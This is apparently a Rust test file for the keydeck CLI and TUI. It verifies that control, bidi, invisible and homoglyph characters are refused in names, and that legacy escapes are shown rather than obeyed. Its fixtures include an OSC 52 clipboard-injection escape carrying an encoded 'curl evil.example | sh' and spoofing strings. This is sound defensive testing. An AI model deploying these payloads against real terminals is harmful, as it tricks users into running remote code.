//! Issue 6, item 12: text one user stores is text another user's terminal shows. The service
//! refuses control, bidi and invisible characters in every name-like input; whatever still
//! reaches the client (legacy rows) is shown, never obeyed, by the CLI and the TUI, while
//! `--json` keeps it exact.
#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

mod common;

use std::process::Command;

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use keydeck::api::Page;
use keydeck::tui::action::Action;
use keydeck::tui::app::{App, Session};
use keydeck::tui::keymap::Keymap;
use keydeck::tui::theme::Theme;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use serde_json::{Value, json};
use time::macros::datetime;

use common::*;

const BIN: &str = env!("CARGO_BIN_EXE_keydeck");

/// The payload: OSC 52 asking the terminal to put `curl evil.example | sh` into the
/// clipboard, terminated by BEL.
const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
/// How the client must show it.
const OSC52_SHOWN: &str = "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇";

/// ESC, BEL, newline, a bidi override and a zero-width space, each inside otherwise fine text.
fn hostile_names() -> Vec<String> {
    ["\x1b[2J", "\x07", "\n", "\u{202e}", "\u{200b}"]
        .iter()
        .map(|c| format!("ops{c}lead"))
        .collect()
}

/// The same, as identifiers could be spelled (role and variable names).
fn hostile_identifiers() -> Vec<String> {
    ["\x1b", "\x07", "\n", "\u{202e}", "\u{200b}"]
        .iter()
        .map(|c| format!("editor{c}"))
        .collect()
}

#[tokio::test]
async fn every_name_like_input_refuses_hidden_characters() {
    let service = TestServer::start().await;
    service.blog().await;
    let admin = &service.admin;
    for name in hostile_names() {
        let reply = service
            .create_global(admin, json!({ "description": name, "roles": [] }))
            .await;
        refused_for(&reply, "INVALID_DESCRIPTION", format!("key name {name:?}"));

        let reply = service
            .create_project_key(
                admin,
                json!({ "projectSlug": "my-blog", "description": name, "memberships": editor(&["cs"]) }),
            )
            .await;
        refused_for(&reply, "INVALID_DESCRIPTION", format!("key name {name:?}"));

        let reply = service
            .mutate(
                admin,
                CREATE_PROJECT,
                json!({ "slug": "fresh", "name": name, "roles": [] }),
            )
            .await;
        refused_for(&reply, "INVALID_NAME", format!("project name {name:?}"));

        let reply = service
            .mutate(
                admin,
                CREATE_PROJECT,
                json!({ "slug": name, "name": "Fresh", "roles": [] }),
            )
            .await;
        refused_for(&reply, "INVALID_SLUG", format!("project slug {name:?}"));

        // Variable values: on a new key and on a membership of an existing identity.
        let reply = service
            .create_project_key(
                admin,
                json!({ "projectSlug": "my-blog", "description": "fine", "memberships": editor(&[&name]) }),
            )
            .await;
        let error = refused_for(&reply, "INVALID_MEMBERSHIP", format!("value {name:?}"));
        assert_eq!(
            error["membershipValidation"],
            json!([{ "code": "VARIABLE_INVALID", "role": "editor", "variable": "language" }]),
            "value {name:?}"
        );
    }
    let member = service.global_key("member", &[]).await;
    for name in hostile_names() {
        let reply = service
            .mutate(
                admin,
                ADD_PROJECT_MEMBER,
                json!({ "projectSlug": "my-blog", "identityId": member.identity_id, "memberships": editor(&[&name]) }),
            )
            .await;
        let error = refused_for(&reply, "INVALID_MEMBERSHIP", format!("value {name:?}"));
        assert_eq!(
            error["membershipValidation"][0]["code"], "VARIABLE_INVALID",
            "{reply:#}"
        );
    }
    for ident in hostile_identifiers() {
        for roles in [
            json!([{ "name": ident }]),
            json!([{ "name": "editor", "variables": [ident] }]),
        ] {
            let reply = service
                .mutate(
                    admin,
                    CREATE_PROJECT,
                    json!({ "slug": "fresh", "name": "Fresh", "roles": roles }),
                )
                .await;
            refused_for(&reply, "INVALID_ROLE_DEFINITION", format!("{roles}"));
        }
    }
    // Role names that differ only in case would read as one role.
    let reply = service
        .mutate(
            admin,
            CREATE_PROJECT,
            json!({ "slug": "fresh", "name": "Fresh", "roles": [{ "name": "Editor" }, { "name": "editor" }] }),
        )
        .await;
    refused(&reply, "INVALID_ROLE_DEFINITION");
}

#[tokio::test]
async fn names_are_stored_trimmed_and_nfc() {
    let service = TestServer::start().await;
    let key = service.global_key("  copy test  ", &[]).await;
    assert_eq!(key.record["description"], "copy test");
    let key = service.global_key("cafe\u{301}", &[]).await;
    assert_eq!(key.record["description"], "café");
    // A trailing space or a decomposed accent no longer makes a second, look-alike name.
    // (Case-insensitive NAME_TAKEN through `text::name_key` is the store's part.)
    for look_alike in ["copy test ", " copy test", "café", "cafe\u{301} "] {
        let reply = service
            .create_global(
                &service.admin,
                json!({ "description": look_alike, "roles": [] }),
            )
            .await;
        refused_for(&reply, "NAME_TAKEN", format!("{look_alike:?}"));
    }
    let reply = service
        .mutate(
            &service.admin,
            CREATE_PROJECT,
            json!({ "slug": "spaced", "name": "   ", "roles": [] }),
        )
        .await;
    refused(&reply, "INVALID_NAME");
}

/// Rows as an older version (or a hand-edited database) left them: written straight into the
/// service's store (SQLite file or PostgreSQL database), past every check of the service.
async fn plant(service: &TestServer, key_id: &str, identity_id: &str) {
    let mut conn = service.store_connection().await;
    let updated = sqlx::query("UPDATE api_keys SET description = $1 WHERE id = $2")
        .bind(format!("deploy {OSC52}"))
        .bind(key_id)
        .execute(&mut conn)
        .await
        .unwrap();
    assert_eq!(updated.rows_affected(), 1);
    let variables = json!([{ "name": "language", "values": [OSC52] }]).to_string();
    let updated = sqlx::query("UPDATE memberships SET variables = $1 WHERE identity_id = $2")
        .bind(variables)
        .bind(identity_id)
        .execute(&mut conn)
        .await
        .unwrap();
    assert_eq!(updated.rows_affected(), 1);
}

/// Runs the real binary against `service` with a temporary HOME and the admin's token.
async fn keydeck(service: &TestServer, args: &[&str]) -> std::process::Output {
    let home = tempfile::tempdir().unwrap();
    let (url, token) = (service.graphql_url(), service.admin.clone());
    let args: Vec<String> = args.iter().map(|a| (*a).to_owned()).collect();
    tokio::task::spawn_blocking(move || {
        Command::new(BIN)
            .env_clear()
            .args(&args)
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join("config"))
            .env("XDG_STATE_HOME", home.path().join("state"))
            .env("XDG_DATA_HOME", home.path().join("data"))
            .env("TERM", "xterm-256color")
            .env("NO_COLOR", "1")
            .env("KEYDECK_ENDPOINT", url)
            .env("KEYDECK_TOKEN", token)
            .output()
            .unwrap()
    })
    .await
    .unwrap()
}

#[tokio::test]
async fn planted_escapes_are_shown_by_keys_list_and_kept_by_json() {
    let service = TestServer::start().await;
    service.blog().await;
    let key = service
        .project_key("my-blog", "deploy", editor(&["cs"]))
        .await;
    plant(&service, &key.id, &key.identity_id).await;

    let out = keydeck(&service, &["keys", "list"]).await;
    assert!(out.status.success(), "{out:?}");
    assert!(
        !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
        "no ESC or BEL reaches the terminal: {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        stdout.contains(&format!("deploy {OSC52_SHOWN}")),
        "the name is shown: {stdout}"
    );
    assert!(
        stdout.contains(&format!("editor(language={OSC52_SHOWN})")),
        "the variable value is shown: {stdout}"
    );

    let out = keydeck(&service, &["keys", "list", "--json"]).await;
    assert!(out.status.success(), "{out:?}");
    let keys: Value = serde_json::from_slice(&out.stdout).unwrap();
    let listed = keys
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["id"] == key.id.as_str())
        .unwrap();
    assert_eq!(listed["name"], format!("deploy {OSC52}"), "--json is exact");
    assert_eq!(
        listed["grants"],
        format!("my-blog:editor(language={OSC52})")
    );
    assert_eq!(listed["memberships"][0]["project"], "my-blog");
    assert_eq!(listed["memberships"][0]["variables"]["language"][0], OSC52);
}

fn screen(app: &App, width: u16, height: u16) -> String {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal
        .draw(|f| app.render(f.area(), f.buffer_mut()))
        .unwrap();
    terminal.backend().to_string()
}

fn press(app: &mut App, code: KeyCode) {
    app.update(Action::Key(KeyEvent::new(code, KeyModifiers::NONE)));
}

/// No raw hidden character in any line the TUI drew.
fn assert_clean(screen: &str) {
    for line in screen.lines() {
        assert!(!line.chars().any(keydeck::text::is_hidden_char), "{line:?}");
    }
}

#[test]
fn the_tui_shows_planted_escapes_visibly() {
    let session = Session {
        profile: "default".into(),
        endpoint: "http://127.0.0.1:7100/graphql".into(),
        credential_store: "kernel keyring".into(),
    };
    let mut app = App::new(
        session,
        Keymap::defaults(),
        Theme::mono(),
        datetime!(2026-11-23 12:00 UTC),
    );
    app.start();
    let mut key = keydeck::tui::fixtures::sample_key(1).unwrap();
    key.description = format!("x{OSC52}");
    app.update(Action::KeysLoaded {
        append: false,
        result: Ok(Page {
            items: vec![key],
            has_next: false,
            end_cursor: None,
            has_previous: false,
            start_cursor: None,
            total: 1,
        }),
    });
    app.update(Action::Me(Ok(serde_json::from_value(
        json!({"id": "me", "description": "admin\u{202e}nimda", "roles": ["super_admin"], "projects": []}),
    )
    .unwrap())));

    let table = screen(&app, 140, 12);
    assert_clean(&table);
    assert!(table.contains("x␛]52;c;"), "{table}");
    assert!(table.contains("admin\\u{202e}nimda"), "{table}");

    press(&mut app, KeyCode::Enter);
    let details = screen(&app, 160, 24);
    assert_clean(&details);
    assert!(details.contains("Name        x␛]52;c;"), "{details}");

    press(&mut app, KeyCode::Char('d'));
    let confirm = screen(&app, 140, 24);
    assert_clean(&confirm);
    assert!(confirm.contains("“x␛]52;c;"), "{confirm}");
}

/// Issue 17.6: invisible and look-alike names. Tag characters, variation selectors, fillers,
/// blanks, private-use and unassigned code points are refused in names; a name that only
/// looks like another (a Cyrillic `а` in "readonly") is NAME_TAKEN beside it, also for keys
/// stored before the look-alike rule (their comparison form is computed again on opening).
#[tokio::test]
async fn invisible_and_look_alike_names_are_refused() {
    let service = TestServer::start().await;
    let nobody = service.global_key("nobody", &[]).await;
    let personal = json!({ "visibility": "PERSONAL" });
    for c in INVISIBLE {
        let name = format!("read{c}only");
        let reply = service
            .create_global(
                &nobody.token,
                json!({ "description": name, "options": personal }),
            )
            .await;
        refused_for(&reply, "INVALID_DESCRIPTION", c.escape_unicode());
    }
    let create = |name: &str| {
        let vars = json!({ "description": name, "options": personal });
        let (service, token) = (&service, nobody.token.clone());
        async move { service.create_global(&token, vars).await }
    };
    ok(&create("readonly").await);
    for look_alike in [
        "re\u{430}donly",
        "READONLY",
        "r\u{435}\u{430}d\u{43e}nl\u{443}",
    ] {
        refused_for(&create(look_alike).await, "NAME_TAKEN", look_alike);
    }

    // A key stored before the rule holds the old comparison form: opening the store computes
    // it again, and the look-alike is refused beside it too.
    ok(&create("deploy").await);
    let mut conn = service.store_connection().await;
    sqlx::query("UPDATE api_keys SET name_key = 'stale' WHERE description = 'deploy'")
        .execute(&mut conn)
        .await
        .unwrap();
    sqlx::query("DELETE FROM store_meta")
        .execute(&mut conn)
        .await
        .unwrap();
    ok(&create("d\u{435}ploy").await);
    sqlx::query("DELETE FROM api_keys WHERE description = 'd\u{435}ploy'")
        .execute(&mut conn)
        .await
        .unwrap();
    let reopened = keydeck::server::store::Store::open(service.database_url())
        .await
        .unwrap();
    drop(reopened);
    refused(&create("d\u{435}ploy").await, "NAME_TAKEN");
}
